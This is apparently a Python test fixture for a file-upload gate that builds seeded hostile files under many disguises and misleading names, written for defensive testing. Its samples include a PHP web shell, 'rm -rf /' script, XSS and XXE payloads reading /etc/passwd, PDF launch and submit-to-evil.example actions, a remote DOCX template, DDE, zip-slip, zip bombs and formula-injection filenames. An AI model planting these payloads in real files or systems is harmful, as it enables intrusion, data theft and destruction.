"""Files that must not be taken as clean: recipes, each with many ways of being dressed up; all of it seeded.

A recipe gives what is bad and the ending it belongs under; dressing changes the name and the bytes around it. Whether
a dressed file is still bad is for the judge (`tests.proofs.judge`) to say, never for the gate that is under test.
"""

from __future__ import annotations

import base64
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from random import Random
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.archives import papers

EICAR = base64.b64decode(
    b"WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)
"""The test signature every scanner knows, written so that this file itself is none."""
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
MZ = b"MZ\x90\x00" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 100
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@dataclass(frozen=True)
class Hostile:
    """A file, and why it is none the platform may take as clean."""

    recipe: str
    name: str
    content: bytes


# --- recipes -----------------------------------------------------------------------------------------------------


def _zip(members: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, content in members.items():
            package.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def _rezipped(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        members = {name: package.read(name) for name in package.namelist()}
    change(members)
    return _zip(members)


def _with(data: bytes, **more: bytes) -> bytes:
    return _rezipped(
        data, lambda members: members.update({name.replace("__", "/"): text for name, text in more.items()})
    )


def _renamed_part(data: bytes, name: str, text: bytes) -> bytes:
    return _rezipped(data, lambda members: members.update({name: text}))


@cache
def _workbook() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.worksheets[0].append(["单位", "姓名"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@cache
def _ofd() -> bytes:
    space, root = 'xmlns:ofd="http://www.ofdspec.org/2016"', "Doc_0/Document.xml"
    body = f"<ofd:DocBody><ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody>"
    return _zip(
        {
            "OFD.xml": f'<?xml version="1.0"?><ofd:OFD {space}>{body}</ofd:OFD>'.encode(),
            root: f'<?xml version="1.0"?><ofd:Document {space}/>'.encode(),
            "Doc_0/Pages/Page_0/Content.xml": f'<?xml version="1.0"?><ofd:Page {space}/>'.encode(),
        }
    )


def _prefixed_xml(data: bytes, part: str, prefix: bytes) -> bytes:
    def change(members: dict[str, bytes]) -> None:
        members[part] = prefix + members[part].partition(b"?>")[2]

    return _rezipped(data, change)


def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _named_script(pdf: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))


def _page_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))


def _link_launches(pdf: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=act)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=Array([]))


def _rich(pdf: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _linked_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        entry = zipfile.ZipInfo("链接.txt")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        package.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _png_with(chunk: bytes, content: bytes) -> bytes:
    data = papers.picture("PNG", (20, 20))
    at = data.index(b"IEND") - 4
    put = struct.pack(">I", len(content)) + chunk + content + struct.pack(">I", zlib.crc32(chunk + content))
    return data[:at] + put + data[at:]


def _jpeg_comment(content: bytes) -> bytes:
    data = papers.picture("JPEG", (20, 20))
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(content) + 2) + content + data[2:]


Recipe = tuple[str, Callable[[], bytes]]
RECIPES: dict[str, Recipe] = {
    "html": ("html", lambda: HTML),
    "svg": ("svg", lambda: SVG),
    "javascript": ("js", lambda: b"new ActiveXObject('WScript.Shell').Run('calc')"),
    "batch": ("bat", lambda: b"@echo off\r\nstart calc\r\n"),
    "shell": ("sh", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "php": ("php", lambda: b"<?php system($_GET['c']); ?>"),
    "program": ("exe", lambda: MZ),
    "elf": ("bin", lambda: ELF),
    "eicar": ("com", lambda: EICAR),
    "eicar in zip": ("zip", lambda: _zip({"a.txt": EICAR})),
    "eicar in docx": ("docx", lambda: _with(papers.word(), word__media__image1=EICAR)),
    "rtf": ("rtf", lambda: b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"),
    "link file": ("lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 100),
    "xml entities": ("xml", lambda: XXE + b"<r>&x;</r>"),
    "pdf script": ("pdf", lambda: papers.with_action(S=Name.JavaScript, JS="app.alert(1)")),
    "pdf named script": ("pdf", lambda: _pdf(_named_script)),
    "pdf script in object stream": (
        "pdf",
        lambda: _pdf(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf page action": ("pdf", lambda: _pdf(_page_action)),
    "pdf launch": ("pdf", lambda: papers.with_action(S=Name.Launch, F="cmd.exe")),
    "pdf link launches": ("pdf", lambda: _pdf(_link_launches)),
    "pdf submits": ("pdf", lambda: papers.with_action(S=Name.SubmitForm, F="http://evil.example/")),
    "pdf attachment": ("pdf", papers.with_attachment),
    "pdf xfa": ("pdf", lambda: _pdf(_xfa)),
    "pdf rich media": ("pdf", lambda: _pdf(_rich)),
    "pdf locked": ("pdf", lambda: papers.locked_pdf("user")),
    "pdf locked for owner": ("pdf", papers.locked_pdf),
    "pdf bomb": ("pdf", lambda: papers.pdf_bomb(40)),
    "pdf endless": ("pdf", papers.endless_pdf),
    "pdf header": ("pdf", lambda: b"%PDF-1.7\n"),
    "pdf and zip": ("pdf", lambda: papers.changed_pdf(lambda pdf: None) + _zip({"a.txt": b"x"})),
    "pdf and html": ("pdf", lambda: b"%PDF-1.7\n" + HTML + papers.changed_pdf(lambda pdf: None)[9:]),
    "pdf and program": ("pdf", lambda: papers.changed_pdf(lambda pdf: None) + MZ),
    "png and html": ("png", lambda: papers.picture("PNG", (20, 20)) + HTML),
    "png text html": ("png", lambda: _png_with(b"tEXt", b"a\0" + HTML)),
    "png and zip": ("png", lambda: papers.picture("PNG", (20, 20)) + _zip({"a.exe": MZ})),
    "png header": ("png", lambda: b"\x89PNG\r\n\x1a\n"),
    "png huge": ("png", papers.huge_picture),
    "jpeg and html": ("jpg", lambda: papers.picture("JPEG", (20, 20)) + HTML),
    "jpeg comment html": ("jpg", lambda: _jpeg_comment(HTML)),
    "jpeg header": ("jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF"),
    "tiff endless": ("tif", papers.endless_tiff),
    "tiff header": ("tif", lambda: b"II*\x00\x08\x00\x00\x00"),
    "gif": ("gif", lambda: b"GIF89a/*" + HTML),
    "docx macros": ("docx", lambda: papers.word(more={"vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600})),
    "docx activex": ("docx", lambda: papers.word(more={"activeX/activeX1.bin": b"x"})),
    "docx embedded": ("docx", lambda: papers.word(more={"embeddings/oleObject1.bin": MZ})),
    "docx entities": ("docx", lambda: _prefixed_xml(papers.word(), "word/document.xml", XXE)),
    "docx laughs": ("docx", lambda: _prefixed_xml(papers.word(), "word/document.xml", LAUGHS)),
    "docx entities in utf-16": ("docx", lambda: _renamed_part(papers.word(), "word/document.xml", _utf_16())),
    "docx template elsewhere": ("docx", lambda: papers.word(more={"_rels/settings.xml.rels": _template()})),
    "docx dde": (
        "docx",
        lambda: papers.word("</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r><w:r><w:t>"),
    ),
    "docx header": ("docx", lambda: papers.word()[:200]),
    "docx and html": ("docx", lambda: HTML + papers.word()),
    "xlsx macros": ("xlsx", lambda: _renamed_part(_workbook(), "xl/vbaProject.bin", b"x" * 900)),
    "xlsx macro sheet": ("xlsx", lambda: _renamed_part(_workbook(), "xl/macrosheets/sheet1.xml", b"<x/>")),
    "xlsx entities": ("xlsx", lambda: _prefixed_xml(_workbook(), "xl/workbook.xml", XXE)),
    "xlsx sheet entities": ("xlsx", lambda: _prefixed_xml(_workbook(), "xl/worksheets/sheet1.xml", XXE)),
    "xlsx bomb": ("xlsx", lambda: _renamed_part(_workbook(), "xl/worksheets/sheet1.xml", b"<a>" + b" " * 40 * 2**20)),
    "ofd entities": ("ofd", lambda: _prefixed_xml(_ofd(), "Doc_0/Document.xml", XXE)),
    "ofd locked": ("ofd", lambda: _renamed_part(_ofd(), "Doc_0/Encryptions.xml", b"<x/>")),
    "ofd without root": ("ofd", lambda: _zip({"Doc_0/Document.xml": b"<x/>"})),
    "ofd with program": ("ofd", lambda: _renamed_part(_ofd(), "Doc_0/Res/a.exe", MZ)),
    "ole macros": ("doc", lambda: papers.compound("WordDocument", "Macros", "VBA", "_VBA_PROJECT")),
    "ole object": ("doc", lambda: papers.compound("WordDocument", "ObjectPool", "\x01Ole10Native")),
    "ole locked": ("xls", lambda: papers.compound("EncryptedPackage", "EncryptionInfo")),
    "ole header": ("xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "zip bomb": ("zip", lambda: papers.swollen_zip(40)),
    "zip overlapping": ("zip", papers.overlapping_zip),
    "zip locked": ("zip", papers.locked_zip),
    "zip in zip": ("zip", lambda: _zip({"a.zip": _zip({"b.zip": _zip({"c.txt": b"x"})})})),
    "zip with link": ("zip", _linked_zip),
    "zip ways up": ("zip", lambda: _zip({"../../../etc/cron.d/x": b"* * * * * root x", "..\\..\\x.exe": MZ})),
    "zip with program": ("zip", lambda: _zip({"a.exe": MZ})),
    "zip with html": ("zip", lambda: _zip({"a.html": HTML, "b.svg": SVG})),
    "zip many": ("zip", lambda: _zip({f"{n}.txt": b"" for n in range(2_500)}, method=zipfile.ZIP_STORED)),
    "zip header": ("zip", lambda: b"PK\x03\x04"),
    "rar": ("rar", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 60),
    "7z": ("7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 60),
    "gzip": ("gz", lambda: b"\x1f\x8b\x08\x00" + b"\0" * 30),
}


def _utf_16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    return text.encode("utf-16")


def _template() -> bytes:
    space = "http://schemas.openxmlformats.org"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{space}/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    ).encode()


@cache
def _made(recipe: str) -> bytes:
    return RECIPES[recipe][1]()


# --- dressing ----------------------------------------------------------------------------------------------------

TAKEN = ("pdf", "jpg", "jpeg", "png", "tif", "docx", "xlsx", "doc", "xls", "wps", "ofd", "txt", "zip", "csv")
STEMS = (
    "关于核定编制的批复",
    "名册",
    "..",
    ".",
    "CON",
    "a\x00b",
    "批复\u202efdp",
    "../../etc/passwd",
    "..\\..\\x",
    "a/b",
    "<img src=x>",
    "长" * 300,
    "a\nb",
    "=cmd|'/c calc'!A1",
    "\u2066甲\u2069",
    "ａ",
    "%2e%2e%2f",
    "a;b",
    '甲"乙',
    " ",
    "",
)


def named(chance: Random, ending: str) -> str:
    """A name that tells the truth, lies about the kind, or is itself an attack."""
    stem = chance.choice(STEMS) if chance.random() < 0.5 else f"附件{chance.randrange(1000)}"
    draw = chance.random()
    if draw < 0.45:
        ending = chance.choice(TAKEN)
    elif draw < 0.55:
        ending = f"{chance.choice(TAKEN)}.{ending}"
    elif draw < 0.65:
        ending = f"{ending}.{chance.choice(TAKEN)}"
    elif draw < 0.7:
        ending = ending.upper() + chance.choice(("", " ", ".", "\x00.pdf", "\u200b", "::$DATA"))
    return f"{stem}.{ending}"


def _flipped(chance: Random, data: bytes) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.randint(1, 4)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


def _spliced(chance: Random, data: bytes) -> bytes:
    at, size = chance.randrange(len(data)), chance.randint(1, 40)
    return data[:at] + bytes(chance.randrange(256) for _ in range(size)) + data[at + chance.randint(0, size) :]


HEADS = (
    b"%PDF-1.7\n",
    b"\xff\xd8\xff\xe0",
    b"\x89PNG\r\n\x1a\n",
    b"PK\x03\x04",
    b"II*\x00",
    b"\xef\xbb\xbf",
    b"\n\n\n",
    b"GIF89a",
)
TAILS = (b"\n%%EOF\n", b"PK\x05\x06" + b"\0" * 18, b"\0" * 64, HTML, MZ[:64], EICAR)


def dressed(chance: Random, data: bytes) -> bytes:
    """The content as it is, or cut, damaged, padded, behind a false head, or with something behind it."""
    draw = chance.random()
    if draw < 0.4 or not data:
        return data
    if draw < 0.55:
        return data[: chance.randrange(1, len(data) + 1)]
    if draw < 0.7:
        return _flipped(chance, data) if len(data) < 2**20 else data[:-1]
    if draw < 0.8:
        return _spliced(chance, data) if len(data) < 2**20 else data + b"\0"
    return chance.choice(HEADS) + data if draw < 0.9 else data + chance.choice(TAILS)


def hostile(seed: int) -> Hostile:
    """The file of that number; the recipes take turns."""
    chance = Random(seed)
    recipe = list(RECIPES)[seed % len(RECIPES)]
    name = named(chance, RECIPES[recipe][0])
    return Hostile(recipe, name, dressed(chance, _made(recipe)))


SMALL = tuple(name for name in RECIPES if "bomb" not in name and name not in ("png huge", "zip many"))


def small_file(chance: Random) -> tuple[str, bytes]:
    """A hostile file that costs little, or a harmless one under some name."""
    if chance.random() < 0.15:
        return named(chance, "pdf"), papers.changed_pdf(lambda pdf: None)
    recipe = chance.choice(SMALL)
    return named(chance, RECIPES[recipe][0]), dressed(chance, _made(recipe))
